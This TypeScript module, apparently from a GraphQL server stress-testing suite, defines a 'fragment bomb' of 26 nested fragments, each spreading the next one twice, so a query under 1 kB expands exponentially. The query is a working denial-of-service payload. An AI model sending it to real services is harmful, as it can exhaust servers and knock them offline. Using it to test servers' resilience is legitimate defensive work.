import type { Attack } from "../attack.ts";

const DEPTH = 26;
const fragments = Array.from({ length: DEPTH }, (_, n) =>
  n === DEPTH - 1
    ? `fragment F${n} on Query{apiVersion}`
    : `fragment F${n} on Query{...F${n + 1} ...F${n + 1}}`,
);

export default {
  what: "26 fragments, each of which spreads the next one twice, in under 1 kB",
  clients: 1,
  next: () => ({ query: `{...F0} ${fragments.join(" ")}` }),
} satisfies Attack;
